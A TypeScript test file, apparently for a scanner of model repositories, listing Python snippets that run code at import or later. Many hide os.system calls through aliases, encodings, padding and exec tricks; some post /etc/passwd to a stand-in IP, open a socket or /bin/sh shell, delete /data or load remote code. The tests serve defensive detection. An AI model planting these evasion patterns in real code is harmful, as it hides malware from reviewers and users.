/** Python files that run something, in every dress. The answer is about the file: reviewers see it at least. */
import { type Answer, one, table } from './case.ts';

/** Starts processes, opens connections or evaluates decoded data when it is imported. */
const AT_IMPORT: Readonly<Record<string, string>> = {
  plain: 'import os\nos.system("id")\n',
  alias: 'import os as o\no.system("id")\n',
  'from import': 'from os import system as s\ns("id")\n',
  'alias of a function': 'import os\nrun = os.system\nrun("id")\n',
  'alias of an alias': 'import os\na = os\nb = a\nb.popen("id")\n',
  getattr: 'import os\ngetattr(os, "sys" + "tem")("id")\n',
  'getattr of a variable': 'import os\nn = "metsys"[::-1]\ngetattr(os, n)("id")\n',
  __import__: '__import__("o" + "s").system("id")\n',
  importlib: 'import importlib\nimportlib.import_module("subprocess").run(["id"])\n',
  'from importlib': 'from importlib import import_module as i\ni("os").system("id")\n',
  decorator: 'import subprocess\n@subprocess.Popen\ndef id(): pass\n',
  'decorator factory': 'import os\ndef d(f):\n    os.system("id")\n    return f\n@d\ndef f(): pass\n',
  'class body': 'import os\nclass A:\n    x = os.system("id")\n',
  'class base': 'import os\nclass A(os.popen("id").__class__):\n    pass\n',
  metaclass:
    'import os\nclass M(type):\n    def __new__(c, *a):\n        os.system("id")\n        return super().__new__(c, *a)\nclass A(metaclass=M): pass\n',
  __init_subclass__:
    'import os\nclass B:\n    def __init_subclass__(cls):\n        os.system("id")\nclass A(B): pass\n',
  'default argument': 'import os\ndef f(x=os.system("id")): pass\n',
  annotation: 'import os\ndef f(x: os.system("id")): pass\n',
  comprehension: 'import os\n[os.system(c) for c in ["id"]]\n',
  generator: 'import os\nany(os.system(c) for c in ["id"])\n',
  'try except':
    'try:\n    import torch\nexcept ImportError:\n    import subprocess\n    subprocess.check_call(["pip", "install", "torch"])\n',
  'lambda in a dictionary': 'import os\nD = {"a": lambda: os.system("id")}\nD["a"]()\n',
  'lambda called': '(lambda m: m.system("id"))(__import__("os"))\n',
  walrus: 'import os\nif (x := os.system("id")): pass\n',
  'f-string': 'import os\nx = f"{os.system(\'id\')}"\n',
  'with statement': 'import os\nwith os.popen("id") as p: pass\n',
  'conditional expression': 'import os\nx = os.system("id") if True else 0\n',
  'match statement': 'import os\nmatch os.system("id"):\n    case _: pass\n',
  assert: 'import os\nassert os.system("id") == 0\n',
  'function called at the end': 'import os\ndef f():\n    os.system("id")\nf()\n',
  'class made at the end': 'import os\nclass A:\n    def __init__(self):\n        os.system("id")\nA()\n',
  'guard that is no guard': 'import os\nif __name__ != "__main__":\n    os.system("id")\n',
  exec: 'exec("import os")\n',
  'exec of base64': 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n',
  'exec of compile': 'exec(compile("import os", "x", "exec"))\n',
  'exec by alias': 'e = exec\ne("import os")\n',
  'exec from builtins': 'from builtins import exec as e\ne("import os")\n',
  'exec of builtins attribute': 'import builtins\nbuiltins.exec("import os")\n',
  'exec from __builtins__': '__builtins__["exec"]("import os")\n',
  'exec from globals': 'globals()["__builtins__"]["exec"]("x")\n',
  'exec of zlib': 'import zlib\nexec(zlib.decompress(b"x"))\n',
  'eval of hex': 'eval(bytes.fromhex("6f73"))\n',
  'eval by map': 'list(map(eval, ["1"]))\n',
  'eval of chr': 'eval("".join(map(chr, [49])))\n',
  'full-width exec': '\uff45\uff58\uff45\uff43("import os")\n',
  'full-width os': 'import os\nｏｓ.system("id")\n',
  marshal: 'import marshal\nexec(marshal.loads(b"x"))\n',
  pickle: 'import pickle\npickle.loads(b"x")\n',
  'pickle by alias': 'from pickle import loads\nloads(open("x", "rb").read())\n',
  'torch.load': 'import torch\ntorch.load("x.bin", weights_only=False)\n',
  requests: 'import requests\nrequests.post("http://203.0.113.1", data=open("/etc/passwd").read())\n',
  urllib: 'from urllib import request as r\nr.urlopen("http://203.0.113.1")\n',
  socket: 'import socket\ns = socket.socket()\ns.connect(("203.0.113.1", 4444))\n',
  ctypes: 'import ctypes\nctypes.CDLL("./x.so")\n',
  'sys.modules': 'import sys\nsys.modules["os"].system("id")\n',
  'os.__dict__': 'import os\nos.__dict__["system"]("id")\n',
  vars: 'import os\nvars(os)["system"]("id")\n',
  attrgetter: 'import os, operator\noperator.attrgetter("system")(os)("id")\n',
  partial: 'import os, functools\nfunctools.partial(os.system, "id")()\n',
  atexit: 'import os, atexit\natexit.register(os.system, "id")\n',
  thread: 'import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()\n',
  asyncio: 'import asyncio\nasyncio.run(asyncio.create_subprocess_shell("id"))\n',
  pty: 'import pty\npty.spawn("/bin/sh")\n',
  'star import': 'from os import *\nsystem("id")\n',
  'module of a library': 'import shutil\nshutil.os.system("id")\n',
  subclasses: '().__class__.__base__.__subclasses__()[0]\n',
  load_library: 'import torch\ntorch.ops.load_library("x.so")\n',
  load_inline:
    'from torch.utils.cpp_extension import load_inline\nload_inline(name="x", cpp_sources="int f(){}")\n',
  'hub.load': 'import torch\ntorch.hub.load("evil/repo", "x", trust_repo=True)\n',
  'yaml.load': 'import yaml\nyaml.load(open("x"), Loader=yaml.UnsafeLoader)\n',
  'numpy pickles': 'import numpy as np\nnp.load("x.npy", allow_pickle=True)\n',
  'write of a start file': 'open("/root/.bashrc", "a").write("id")\n',
  rmtree: 'import shutil\nshutil.rmtree("/data")\n',
  'carriage returns': '# harmless\rimport os\ros.system("id")\r',
  'form feed': 'x = 1\n\x0cimport os\n\x0cos.system("id")\n',
  'line continuation': 'import os\nos.\\\nsystem("id")\n',
  semicolons: 'x = 1; import os; os.system("id")\n',
  'UTF-7 cookie': '# -*- coding: utf-7 -*-\n# harmless +AAo-import os+AAo-os.system("id")\n',
  'rot13 cookie': '# coding: rot13\nvzcbeg bf\nbf.flfgrz("vq")\n',
  'cookie in the second line': '#!/usr/bin/env python\n# vim: set fileencoding=utf-7 :\n# +AAo-x\n',
  'long line': `x = 1${' '.repeat(5000)}; __import__("os").system("id")\n`,
  'far down': `${'x = 1\n'.repeat(20_000)}__import__("os").system("id")\n`,
  'type call': 'import os\ntype("A", (), {"__init__": lambda s: os.system("id")})()\n',
  property: 'import os\nclass A:\n    @property\n    def x(self): return os.system("id")\nA().x\n',
  '__getattr__ of a module': 'import os\ndef __getattr__(name):\n    os.system("id")\n',
  'unpacked call': 'import os\n(f, *_) = (os.system,)\nf("id")\n',
  'loop over functions': 'import os\nfor f in (os.system,):\n    f("id")\n',
  'deep nesting': `${'('.repeat(300)}1${')'.repeat(300)}\n__import__("os").system("id")\n`,
  setattr: 'import os, torch\nsetattr(torch.nn.Module, "__call__", lambda *a: os.system("id"))\n',
};

/** Modules that are handed on as values, and the ways to a name chosen at run time. */
const HANDED: Readonly<Record<string, string>> = {
  list: 'import os\nfor m in [os]:\n    m.system("id")\n',
  dictionary: 'import os\nd = {"o": os}\nd["o"].system("id")\n',
  'return value': 'import os\ndef g():\n    return os\ng().system("id")\n',
  'class attribute': 'import os\nclass A:\n    o = os\nA.o.system("id")\n',
  'default argument': 'import os\ndef f(m=os):\n    m.system("id")\nf()\n',
  'conditional expression': 'import os\n(os if 1 else 0).system("id")\n',
  or: 'import os\n(None or os).system("id")\n',
  'starred argument': 'import os\ndef f(*a): a[0].system("id")\nf(*[os])\n',
  'keyword argument': 'import os\ndef f(m): m.system("id")\nf(m=os)\n',
  'with statement': 'import os, contextlib\nwith contextlib.nullcontext(os) as m:\n    m.system("id")\n',
  'globals().get': 'import os\nglobals().get("os").system("id")\n',
  '__dict__.get': 'import os\nos.__dict__.get("system")("id")\n',
  __getattribute__: 'import os\nos.__getattribute__("system")("id")\n',
  'object.__getattribute__': 'import os\nobject.__getattribute__(os, "system")("id")\n',
  getmembers: 'import inspect, os\ndict(inspect.getmembers(os))["system"]("id")\n',
  __loader__: '__loader__.load_module("os").system("id")\n',
  __spec__: '__spec__.loader.load_module("os").system("id")\n',
  BuiltinImporter: 'import _frozen_importlib as f\nf.BuiltinImporter.load_module("posix").system("id")\n',
  pipepager: 'import pydoc\npydoc.pipepager("x", "id")\n',
  'from torch.serialization': 'from torch.serialization import load as l\nl("x")\n',
  load_op_library: 'import tensorflow as tf\ntf.load_op_library("x.so")\n',
  'Keras without safe mode': 'import keras\nkeras.models.load_model("x", safe_mode=False)\n',
  'annotation in text':
    'import typing\ntyping.get_type_hints(type("A", (), {"__annotations__": {"a": "__import__(\'os\').system(\'id\')"}}))\n',
  'many meanings of one name': `import os\n${Array.from({ length: 12 }, (_, i) => `f = a${i}\n`).join('')}f = os.system\nf("id")\n`,
  'many aliases': `import os\na0 = os\n${Array.from({ length: 80 }, (_, i) => `a${i + 1} = a${i}\n`).join('')}a80.system("id")\n`,
};

/** Does so only when the model is used: still nothing that passes unseen. */
const LATER: Readonly<Record<string, string>> = {
  'process in a method':
    'import subprocess\nclass M:\n    def forward(self):\n        subprocess.run(["id"])\n',
  'network in a method':
    'import requests\nclass M:\n    def forward(self, x):\n        requests.get("http://203.0.113.1")\n',
  'eval in a method': 'class M:\n    def forward(self, x):\n        return eval(x)\n',
  'pickle in a method':
    'import pickle\nclass M:\n    def forward(self, x):\n        return pickle.loads(x)\n',
  'remote code in a method':
    'from transformers import AutoModel\nclass M:\n    def f(self):\n        return AutoModel.from_pretrained("evil/x", trust_remote_code=True)\n',
  'torch.load in a method': 'import torch\ndef f(p):\n    return torch.load(p)\n',
};

const cases = (answer: Answer, sources: Readonly<Record<string, string>>, path = 'modeling_x.py') =>
  Object.entries(sources).map(([name, source]) => one(name, answer, path, source));

table('Python that runs at import', cases('not clean', AT_IMPORT));
table('Python that hands modules on', cases('not clean', HANDED));
table('Python that runs later', cases('held', LATER));
table('Python under another name', [
  one('config.json', 'not clean', 'config.json', AT_IMPORT.plain ?? ''),
  one('no extension', 'not clean', 'setup', `#!/usr/bin/env python3\n${AT_IMPORT.plain}`),
  one('a module that shadows torch', 'held', 'torch.py', 'x = 1\n'),
  one('sitecustomize', 'held', 'sitecustomize.py', 'x = 1\n'),
]);
